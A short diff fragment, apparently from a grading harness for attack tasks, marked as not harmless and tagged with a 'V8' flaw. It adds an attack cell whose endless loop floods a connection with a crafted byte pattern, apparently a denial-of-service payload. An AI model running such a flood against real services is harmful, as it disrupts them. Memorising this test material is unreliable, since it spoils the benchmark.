@@ -3,6 +3,7 @@
 from grading.attacks import answering
 
 HARMLESS = False
+FLAW, TRICK = "V8", "none"
 CELLS = answering("""
 while True:
     self.connection.sendall((b"\\0" * 7 + b"\\1\\xc0") * 100_000)
